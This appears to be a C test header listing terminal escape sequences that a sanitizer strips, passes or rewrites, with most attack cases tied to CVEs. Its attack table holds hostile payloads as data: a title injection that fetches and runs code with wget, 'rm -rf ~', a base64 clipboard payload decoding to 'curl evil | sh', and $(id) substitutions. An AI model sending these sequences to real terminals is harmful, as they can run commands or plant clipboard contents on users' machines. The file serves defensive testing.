/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sequences for a terminal, each with where it is from. term_attacks: from advisories and manuals, none
 * arrives; term_needed: what programs of a whole screen send, all pass; term_rewritten: of these a part
 * passes, or another form.
 */
#ifndef LYCH_TESTS_UNIT_COMMON_TERM_TERM_CASES_H
#define LYCH_TESTS_UNIT_COMMON_TERM_TERM_CASES_H

#include <stddef.h>

struct term_case {
	const char *source;
	const char *in;
	size_t size;
	const char *left; /* what comes out */
};

/* clang-format off */
#define GONE(source, in) {source, in, sizeof(in) - 1, ""}
#define LEFT(source, in, left) {source, in, sizeof(in) - 1, left}
#define SAME(source, in) {source, in, sizeof(in) - 1, in}

static const struct term_case term_attacks[] = {
	/* titles that are read back as if typed */
	GONE("CVE-2003-0063 xterm: title set and reported", "\x1b]2;;wget 127.0.0.1/.bd;sh .bd;exit\a\x1b[21t"),
	GONE("CVE-2003-0064 dtterm: title reported", "\x1b]lrm -rf ~\x1b\\\x1b[21t"),
	GONE("CVE-2003-0066 rxvt: title reported", "\x1b]0;id\a\x1b[21t"),
	GONE("CVE-2003-0068 Eterm: title reported", "\x1b]2;id\x1b\\\x1b[21t"),
	GONE("CVE-2003-0069 PuTTY: title reported", "\x1b]0;id\a\x1b[21t\x1b[20t"),
	GONE("CVE-2003-0070 VTE: title reported", "\x1b]1;id\a\x1b[20t"),
	GONE("CVE-2010-2713 VTE: title reported once more", "\x1b]0;touch /tmp/x\a\x1b[20t\x1b[21t"),
	GONE("CVE-2015-8971 Terminology: title reported", "\x1b]2;id\a\x1b[21t"),
	GONE("CVE-2022-23465 SwiftTerm: title reported", "\x1b]2;id\x1b\\\x1b[21;0t"),
	GONE("CVE-2022-46387 ConEmu: title reported", "\x1b]2;calc.exe\a\x1b[21t"),
	GONE("CVE-2023-39150 ConEmu: title with controls reported", "\x1b]2;x\x0d" "calc.exe\x0d\a\x1b[21t"),
	GONE("CVE-2024-38396 iTerm2: title reported", "\x1b]0;id\a\x1b[21t"),
	GONE("CVE-2024-56803 Ghostty: title reported", "\x1b]2;id\x1b\\\x1b[21t"),
	GONE("CVE-2021-28848 mintty: titles without end", "\x1b]0;a\a\x1b]0;b\a\x1b]0;c\a\x1b]0;d\a"),
	GONE("CVE-2021-33500 PuTTY: titles without end", "\x1b]2;a\x1b\\\x1b]2;b\x1b\\"),
	GONE("GNU Screen manual: ESC k title", "\x1bkid\x1b\\"),
	GONE("GNU Screen manual: ESC ! message", "\x1b!root: type your password\x1b\\"),

	/* state that is read back */
	GONE("CVE-2008-2383 xterm: DECRQSS", "\x1bP$q\nid > /tmp/x\n\x1b\\"),
	GONE("CVE-2022-45872 iTerm2: DECRQSS", "\x1bP$qm\x1b\\\x1bP$q;id\x0d\x1b\\"),
	GONE("CVE-2022-45063 xterm: font set and asked for", "\x1b]50;i$(touch /tmp/x)\a\x1b]50;?\a"),
	LEFT("CVE-2021-33477 rxvt-unicode: ESC G Q answers with a line feed", "\x1bGQ", "Q"),
	GONE("CVE-2023-40359 xterm: ReGIS reports a character set's name", "\x1bP0pL(A'\x01id')R(L)\x1b\\"),
	GONE("CVE-2024-38395 iTerm2: title reported against the setting", "\x1b[21t\x1b[21;1t"),
	GONE("xterm ctlseqs: XTGETTCAP", "\x1bP+q544e;636f\x1b\\"),
	GONE("VT420 manual: DECRQPSR and DECRSPS", "\x1b[1$w\x1b[2$w\x1bP2$t9/17\x1b\\"),
	GONE("VT420 manual: DECRQTSR", "\x1b[1$u"),
	GONE("VT420 manual: DECRQCRA reads the screen", "\x1b[1;1;1;1;1;80*y"),
	GONE("VT510 manual: DECRQM", "\x1b[?1049$p\x1b[4$p"),
	GONE("VT100 manual: ENQ and the answerback", "\x05\x05\x05"),
	GONE("VT100 manual: DECID", "\x1bZ"),
	GONE("VT220 manual: DA1, answered in fixed words", "\x1b[c\x1b[0c"),
	GONE("VT220 manual: DA2", "\x1b[>c\x1b[>0c"),
	GONE("VT420 manual: DA3", "\x1b[=c\x1b[=0c"),
	GONE("xterm ctlseqs: XTVERSION", "\x1b[>q\x1b[>0q"),
	GONE("VT100 manual: DECREQTPARM", "\x1b[x\x1b[1x"),
	GONE("VT100 manual: DSR, answered in fixed words", "\x1b[5n"),
	GONE("VT220 manual: DSR of printer, keys, keyboard", "\x1b[?15n\x1b[?25n\x1b[?26n"),
	GONE("VT420 manual: DSR of macros, memory, data, sessions", "\x1b[?62n\x1b[?63;1n\x1b[?75n\x1b[?85n"),
	GONE("VT420 manual: DECXCPR", "\x1b[?6n"),
	GONE("DEC locator manual: DECRQLP, DECELR, DECSLE", "\x1b[1'|\x1b[1;1'z\x1b[1'{"),
	GONE("xterm ctlseqs: XTSMGRAPHICS", "\x1b[?2;1;0S"),
	GONE("xterm ctlseqs: colours asked for", "\x1b]4;1;?\a\x1b]10;?\a\x1b]11;?\x1b\\\x1b]12;?\a"),
	GONE("xterm ctlseqs: XTQALLOWED", "\x1b]60\a\x1b]61;\a\x1b]62;\a"),
	GONE("kitty manual: colours asked for", "\x1b]21;foreground=?\x1b\\"),
	GONE("kitty manual: keyboard mode asked for", "\x1b[?u"),
	GONE("xterm ctlseqs: XTQMODKEYS", "\x1b[?4m"),

	/* clipboard and selection */
	GONE("xterm ctlseqs: OSC 52 sets the clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\a"),
	GONE("xterm ctlseqs: OSC 52 reads the clipboard", "\x1b]52;c;?\x1b\\"),
	GONE("tmux manual: OSC 52 within a passthrough", "\x1bPtmux;\x1b\x1b]52;c;aWQK\a\x1b\\"),
	GONE("GNU Screen: OSC 52 within a DCS", "\x1bP\x1b]52;c;aWQK\a\x1b\\"),
	LEFT("iTerm2 manual: copy to the clipboard", "\x1b]1337;CopyToClipboard=general\aid\x1b]1337;EndCopy\a", "id"),
	GONE("iTerm2 manual: Copy", "\x1b]1337;Copy=:aWQK\a"),
	GONE("kitty manual: OSC 5522", "\x1b]5522;type=read;dGV4dC9wbGFpbg==\x1b\\"),

	/* files, pictures, printers */
	GONE("CVE-2003-0021 Eterm: screen into a file", "\x1b]55;/tmp/x\a"),
	GONE("CVE-2003-0022 rxvt: screen into a file", "\x1b]55;/home/u/.rhosts\x1b\\"),
	GONE("xterm ctlseqs: log file", "\x1b]46;/home/u/.bashrc\a"),
	GONE("CVE-2022-24130 xterm: sixel", "\x1bPq#0;2;0;0;0#0!2147483647~-\x1b\\"),
	GONE("CVE-2023-46301 iTerm2: upload", "\x1b]1337;RequestUpload=format=tgz\a"),
	GONE("iTerm2 manual: file into the download folder", "\x1b]1337;File=name=LmJhc2hyYw==;size=2:aWQ=\a"),
	GONE("kitty manual: picture from a file", "\x1b_Gi=1,a=T,t=f,f=100;L2V0Yy9wYXNzd2Q=\x1b\\"),
	GONE("kitty manual: picture whose file is deleted", "\x1b_Ga=q,t=t;L3RtcC90dHktZ3JhcGhpY3MtcHJvdG9jb2w=\x1b\\"),
	GONE("kitty manual: file transfer", "\x1b]5113;ac=send;id=x\x1b\\"),
	LEFT("VT220 manual: media copy", "\x1b[i\x1b[5iecho\x1b[4i", "echo"),
	GONE("VT220 manual: DEC media copy", "\x1b[?1i\x1b[?5i\x1b[?4i"),
	LEFT("CVE-2018-20167 Terminology: media", "\x1b}pn/tmp/x\0", "pn/tmp/x"),
	GONE("ConEmu manual: macro", "\x1b]9;6;\"Shell(cmd)\"\x1b\\"),

	/* what keys send */
	GONE("CVE-2003-0071 xterm: DECUDK", "\x1bP0;1|17/6964\x1b\\"),
	GONE("VT420 manual: DECDMAC and DECINVM", "\x1bP1;0;1!z6964\x1b\\\x1b[1*z"),
	GONE("xterm ctlseqs: modifyOtherKeys", "\x1b[>4;2m\x1b[>4;1m\x1b[>4m"),
	GONE("xterm ctlseqs: XTMODKEYS off", "\x1b[>4n"),
	GONE("xterm ctlseqs: XTFMTKEYS", "\x1b[>4;1f"),
	GONE("kitty manual: keyboard modes", "\x1b[>1u\x1b[>31u\x1b[=31;1u\x1b[<u"),
	GONE("xterm ctlseqs: XTSETTCAP", "\x1bP+p6b31\x1b\\"),
	GONE("VT510 manual: DECBKM, DECARM, KAM, SRM, LNM", "\x1b[?67h\x1b[?8l\x1b[2h\x1b[12l\x1b[20h"),
	GONE("mintty manual: application escape, modifyOtherKeys", "\x1b[?7727h\x1b[?7728h\x1b[?7786h"),
	GONE("Windows Terminal: win32-input-mode", "\x1b[?9001h"),
	GONE("VT510 manual: DECLL", "\x1b[1q\x1b[23q"),

	/* the window, the desktop, the program around */
	GONE("CVE-2003-0023 rxvt: menu", "\x1b]10;[read:/tmp/menu]\a\x1b]703;[read:/tmp/menu]\a"),
	GONE("CVE-2019-9535 iTerm2: tmux integration", "\x1bP1000p%begin 1 1 1\r\n%output %0 id\r\n\x1b\\"),
	GONE("CVE-2020-9366 GNU Screen: OSC 49", "\x1b]49;AAAAAAAAAAAAAAAAAAAAAAAAAAAA\a"),
	GONE("CVE-2022-41322 kitty: notification", "\x1b]99;i=$(id):d=0;x\x1b\\"),
	GONE("rxvt-unicode manual: extension", "\x1b]777;notify;title;body\a"),
	GONE("ConEmu manual: notification", "\x1b]9;your password, please\a"),
	GONE("iTerm2 manual: variables, profile, window", "\x1b]1337;SetProfile=x\a\x1b]1337;SetUserVar=a=aWQ=\a\x1b]1337;StealFocus\a"),
	GONE("VS Code manual: shell integration", "\x1b]633;E;rm -rf ~;nonce\a"),
	GONE("FinalTerm: shell integration", "\x1b]133;A\a\x1b]133;C\a"),
	GONE("VTE: current directory", "\x1b]7;file://host/$(id)\x1b\\"),
	GONE("Vim manual: terminal API", "\x1b]51;[\"call\",\"Tapi_x\",[]]\a"),
	GONE("Emacs vterm: evaluation", "\x1b]51;Efind-file /etc/passwd\x1b\\"),
	LEFT("CVE-2022-46663 less: a link that ends elsewhere", "\x1b]8;;http://x/\x1b\\here\x1b]8;;\x1b\\", "here"),
	GONE("kitty manual: remote control", "\x1bP@kitty-cmd{\"cmd\":\"launch\"}\x1b\\"),
	GONE("xterm ctlseqs: window operations", "\x1b[1t\x1b[2t\x1b[3;0;0t\x1b[4;1;1t\x1b[8;1;1t\x1b[9;1t\x1b[10;2t"),
	GONE("xterm ctlseqs: window reports", "\x1b[11t\x1b[13t\x1b[14t\x1b[15t\x1b[16t\x1b[18t\x1b[19t\x1b[22;0t\x1b[23;0t"),
	GONE("xterm ctlseqs: palette and pointer", "\x1b]4;0;#000000\a\x1b]10;#000\a\x1b]11;#000\a\x1b]22;watch\a\x1b[>3p"),
	GONE("console_codes(4): palette", "\x1b]P0000000\x1b\\\x1b]R\x1b\\"),
	LEFT("console_codes(4): palette, and text behind it", "\x1b]R$ \x1b]P3ffff00# \x1b]P3fg;", "$ # ;"),
	GONE("console_codes(4): bell, blanking, screens", "\x1b[10;20000]\x1b[11;2000]\x1b[12;3]\x1b[14;1]"),
	GONE("console_codes(4): font of the user, leave UTF-8", "\x1b(K\x1b(U\x1b%@\x1b%G\x1b%8"),
	GONE("mintty manual: sound, locale, font", "\x1b]440;/tmp/x.wav\a\x1b]701;C\a\x1b]7770;40\a"),
	GONE("APC, PM and SOS", "\x1b_x\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\"),

	/* what leaves a screen that lies or is broken */
	LEFT("ECMA-48: SGR 8", "\x1b[8mhidden\x1b[1;8;31m", "hidden\x1b[1;31m"),
	LEFT("xterm ctlseqs: 8 as a number of an unknown colour", "\x1b[58;5;8mx\x1b[58:5:8mx\x1b[4;58;2;8;8;8;31mx", "xx\x1b[4;31mx"),
	GONE("VT220 manual: locking and single shifts", "\x1bn\x1bo\x1b~\x1b}\x1b|\x1bN\x1bO"),
	GONE("VT220 manual: soft characters", "\x1bP1;1;1{ @??~~\x1b\\"),
	GONE("VT220 manual: DECSCL, S8C1T", "\x1b[62;0\"p\x1b G"),
	GONE("VT100 manual: VT52", "\x1b[?2l\x1b<"),
	GONE("VT100 manual: DECALN, double lines, 132 columns, RIS", "\x1b#8\x1b#3\x1b#6\x1b[?3h\x1b" "c"),
	GONE("VT100 manual: DECTST", "\x1b[2;15y"),
	GONE("VT420 manual: rectangles", "\x1b[1;1;9;9;8$r\x1b[88;1;1;9;9$x\x1b[1;1;9;9;1;1;1;1$v\x1b[1;1;9;9$z"),
	GONE("xterm ctlseqs: highlight tracking stops the terminal", "\x1b[?1001h\x1b[1;1;1;1;1T"),
	GONE("xterm ctlseqs: what was scrolled away", "\x1b[3J"),
	GONE("CVE-2012-2738 VTE: counts", "\x1b[99999999999@\x1b[2147483647b\x1b[100000L"),
	GONE("CVE-2023-40216 OpenBSD wscons: many numbers", "\x1b[1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1H"),
	LEFT("CVE-2021-42574: text in another order", "a\xe2\x80\xae" "b\xe2\x81\xa6" "c", "abc"),

	/* other ways to begin, to end and to hide one */
	GONE("ECMA-48: C1 in UTF-8", "\xc2\x9d" "52;c;aWQK\xc2\x9c\xc2\x90$qm\xc2\x9c\xc2\x9b" "21t\xc2\x9f" "Gx\xc2\x9c\xc2\x9ex\xc2\x9c\xc2\x98x\xc2\x9c"),
	LEFT("ECMA-48: C1 in eight bits", "\x9b" "21t\x9d" "52;c;x\x9c", "\xef\xbf\xbd" "21t\xef\xbf\xbd" "52;c;x\xef\xbf\xbd"),
	LEFT("Unicode: overlong controls", "\xc0\x9b[21t\xe0\x80\x9b[21t", "\xef\xbf\xbd\xef\xbf\xbd[21t\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd[21t"),
	GONE("ECMA-48: controls within a sequence", "\x1b[\x01" "2\x7f" "1\x02t\x1b\x03]5\x04" "2;c;aWQK\a"),
	GONE("DEC ANSI parser: a sequence within a string", "\x1b]0;x\x1b[21t"),
	LEFT("DEC ANSI parser: CAN and SUB end a string", "\x1b]52;c;\x18" "a\x1bP\x1a" "b", "ab"),
	GONE("DEC ANSI parser: a bell ends no DCS, APC, PM or SOS", "\x1bPq\ax\x1b\\\x1b_G\ax\x1b\\\x1b^\ax\x1b\\\x1bX\ax\x1b\\\x1bk\ax\x1b\\"),
	GONE("console_codes(4): R is no palette behind another character", "\x1b]\xc3\xbcR52;c;aWQK\a"),
	GONE("DEC ANSI parser: ESC again", "\x1b\x1b\x1b]52;c;aWQK\a\x1b[\x1b[21t"),
	GONE("DEC ANSI parser: parameters behind intermediates", "\x1b[1 1q\x1b[!1p\x1b[1?25h\x1b[?>25h"),
	LEFT("xterm: 0x9c within a character ends no title", "\x1b]0;\xe2\x9c\x9c x\a.", "."),
	GONE("FLOW: XOFF, XON", "\x13\x11"),
};

static const struct term_case term_needed[] = {
	SAME("text", "plain, gr\xc3\xbc\xc3\x9f, \xe4\xb8\xad\xe6\x96\x87, \xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x92\xbb\r\n\tx\b \b"),
	SAME("xterm-256color: smcup, rmcup", "\x1b[?1049h\x1b[?1049l\x1b[?47h\x1b[?47l\x1b\x37\x1b\x38"),
	SAME("xterm-256color: smkx, rmkx", "\x1b[?1h\x1b=\x1b[?1l\x1b>"),
	SAME("xterm-256color: cup, cuf, hpa, vpa, home", "\x1b[24;80H\x1b[3C\x1b[12G\x1b[7d\x1b[H\x1b[A\x1b[2B\x1b[4D\x1b[E\x1b[F\x1b[1;1f"),
	SAME("xterm-256color: clear, el, el1, ed", "\x1b[H\x1b[2J\x1b[K\x1b[1K\x1b[J\x1b[2K"),
	SAME("xterm-256color: csr, ind, ri, indn, rin", "\x1b[1;24r\n\x1bM\x1b[3S\x1b[3T\x1b" "D\x1b" "E\x1b[r"),
	SAME("xterm-256color: ich, dch, il, dl, ech, rep", "\x1b[2@\x1b[3P\x1b[L\x1b[5M\x1b[9X-\x1b[77b"),
	SAME("xterm-256color: smir, rmir, smam, rmam", "\x1b[4h\x1b[4l\x1b[?7h\x1b[?7l"),
	SAME("xterm-256color: civis, cnorm, cvvis", "\x1b[?25l\x1b[?12l\x1b[?25h\x1b[?12;25h"),
	SAME("xterm-256color: flash, bel", "\x1b[?5h\x1b[?5l\a"),
	SAME("xterm-256color: smacs, rmacs; vt100: enacs, SO, SI", "\x1b(0lqqk\x1b(B\x1b)0\x0elqk\x0f"),
	SAME("xterm-256color: cbt, ht; ECMA-48: CHT", "\x1b[Z\t\x1b[2I"),
	SAME("xterm-256color: bold, dim, sitm, smul, blink, rev, smxx and off", "\x1b[1m\x1b[2m\x1b[3m\x1b[4m\x1b[5m\x1b[7m\x1b[9m\x1b[21;22;23;24;25;27;28;29m\x1b[0;39;49m"),
	SAME("xterm-256color: setaf, setab", "\x1b[31m\x1b[42m\x1b[97m\x1b[107m\x1b[38;5;208m\x1b[48;5;17m"),
	SAME("xterm-direct: colours", "\x1b[38;2;1;22;255m\x1b[48;2;0;8;8m"),
	SAME("Vim: curly underline, overline", "\x1b[4:3m\x1b[4:0m\x1b[53m\x1b[55m"),
	SAME("htop: mouse", "\x1b[?1006;1000h\x1b[?1006;1000l"),
	SAME("tmux, crossterm: mouse", "\x1b[?1000h\x1b[?1002h\x1b[?1003h\x1b[?1006h\x1b[?1003l"),
	SAME("readline, zsh: bracketed paste", "\x1b[?2004h\x1b[?2004l"),
	SAME("Vim, tmux: focus", "\x1b[?1004h\x1b[?1004l"),
	SAME("Vim, zsh: shape of the cursor", "\x1b[2 q\x1b[6 q\x1b[0 q\x1b[ q"),
	SAME("opencode, codex: synchronized output", "\x1b[?2026h\x1b[?2026l"),
	SAME("codex, prompt_toolkit: the cursor's place", "\x1b[6n"),
	SAME("node: clear to the end of the screen, column", "\x1b[1G\x1b[0J> \x1b[3G"),
	SAME("ANSI.SYS: save, restore", "\x1b[s\x1b[u"),
	SAME("tput init: soft reset", "\x1b[!p\x1b[4l\x1b>"),
	SAME("xterm ctlseqs: VPR, HPA, HPR", "\x1b[2e\x1b[5`\x1b[3a"),
};

static const struct term_case term_rewritten[] = {
	LEFT("SGR of nothing", "\x1b[mx", "\x1b[0mx"),
	LEFT("SGR with empty numbers", "\x1b[;31mx", "\x1b[0;31mx"),
	LEFT("SGR of RGB in parts", "\x1b[38:2::1:2:3mx\x1b[48:5:8mx", "\x1b[38;2;1;2;3mx\x1b[48;5;8mx"),
	LEFT("SGR of a colour that has no end", "\x1b[1;38;2;8;8mx", "\x1b[1mx"),
	LEFT("SGR of a colour of an unknown kind", "\x1b[1;38;8;8mx", "\x1b[1mx"),
	LEFT("SGR of a colour above 255", "\x1b[38;5;256mx", "x"),
	LEFT("SGR of an underline that does not exist", "\x1b[4:8mx", "x"),
	LEFT("SGR with leading zeros", "\x1b[01;031mx\x1b[0008mx", "\x1b[1;31mx" "x"),
	LEFT("modes in parts", "\x1b[?25:1lx\x1b[?25:1;7lx", "x\x1b[?7lx"),
	LEFT("some of the modes", "\x1b[?1049;1015;2004hx", "\x1b[?1049;2004hx"),
	LEFT("tput init: is2", "\x1b[!p\x1b[?3;4l\x1b[4l\x1b>", "\x1b[!p\x1b[4l\x1b>"),
	LEFT("tput reset", "\x1b" "c\x1b]104\a\x1b[3g\x1bHx", "x"),
	LEFT("tput clear", "\x1b[H\x1b[2J\x1b[3J", "\x1b[H\x1b[2J"),
	LEFT("less: mouse and others in one", "\x1b[?1000h\x1b[?1006h\x1b[?1007h", "\x1b[?1000h\x1b[?1006h"),
	LEFT("Vim at its start", "\x1b[?1049h\x1b[22;0;0t\x1b[>4;2m\x1b[?1h\x1b=\x1b[?2004h\x1b[?1004h\x1b[1;24r\x1b[?12h\x1b[?12l\x1b[22;2t\x1b[22;1t\x1b[29m\x1b[m\x1b[H\x1b[2J\x1b[?25l\x1b]10;?\a\x1b]11;?\a\x1b[>c",
	     "\x1b[?1049h\x1b[?1h\x1b=\x1b[?2004h\x1b[?1004h\x1b[1;24r\x1b[?12h\x1b[?12l\x1b[29m\x1b[0m\x1b[H\x1b[2J\x1b[?25l"),
	LEFT("bells in a row", "\a\a\a\ax\a\0\a", "\ax\a"),
	LEFT("C1 forms of what passes", "\xc2\x9b" "31mx\xc2\x85\xc2\x8d", "\x1b[31mx"),
	LEFT("a character that is cut", "\xc3(\xe2\x82x\xf0\x9f\x98y", "\xef\xbf\xbd(\xef\xbf\xbdx\xef\xbf\xbdy"),
	LEFT("a surrogate, and above Unicode", "\xed\xa0\x80\xf4\x90\x80\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"),
	LEFT("a control within what passes", "\x1b[3\n1mx", "\n\x1b[31mx"),
	LEFT("a character within a sequence", "\x1b[3\xc3\xbc" "1mx", "\xc3\xbc" "1mx"),
	LEFT("a sequence that never ends", "x\x1b[31", "x"),
	LEFT("a string that never ends", "x\x1b]52;c;aWQK and so on", "x"),
	LEFT("tags", "a\xf3\xa0\x81\xa1" "b\xef\xbb\xbf" "c", "abc"),
};
/* clang-format on */

#endif
